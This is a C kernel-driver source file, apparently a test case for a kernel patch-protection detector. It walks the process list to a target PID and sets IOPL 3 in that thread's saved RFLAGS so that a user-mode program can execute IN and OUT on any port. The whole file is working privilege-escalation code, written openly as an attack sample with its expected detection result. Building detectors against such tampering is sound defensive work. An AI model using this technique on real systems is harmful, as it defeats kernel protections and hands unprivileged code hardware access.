/* attack_a84_iopl (A84): ports for a ring-3 program without the TSS. A
 * system call saves the program's RFLAGS on its thread's kernel stack (at
 * the top, below its RSP and RIP), and SYSRET restores them, the I/O
 * privilege level included; an interrupt from ring 3 saves them in the
 * same slot. The driver finds the process with the PID given as argument
 * (a walk of the active process list, as attack_a64) and sets IOPL 3 in
 * the RFLAGS its first thread's return to ring 3 will restore: from then
 * on the program executes IN and OUT on any port. Expected: 0x109 type
 * 0x112. */
#include "attack_proc.h"
#include <kpp/process.h>

#define RFLAGS_IOPL (3ull << 12)

status_t driver_entry(struct driver_object *drv)
{
	uint64_t pid = 1;
	if (drv->args[0] && !parse_u64(drv->args, &pid))
		return KPP_STATUS_INVALID_PARAMETER;
	struct thread *t = gs_current_thread();
	struct list_link *start = &t->process->link, *l = start;
	struct process *p = NULL;
	int n = 0;
	do {
		if (is_process(l) && PROCESS_OF(l)->pid == pid)
			p = PROCESS_OF(l);
		l = l->next;
	} while (l != start && !p && ++n < 4096);
	if (!p || !p->threads) {
		printk("attack_a84: process %lu or its thread not found\n", pid);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	uint64_t *frame = (uint64_t *)p->threads->stack_top;
	frame[-3] |= RFLAGS_IOPL;
	printk("attack_a84: process %lu's saved RFLAGS carry IOPL 3\n", pid);
	a_patched("attack_a84");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
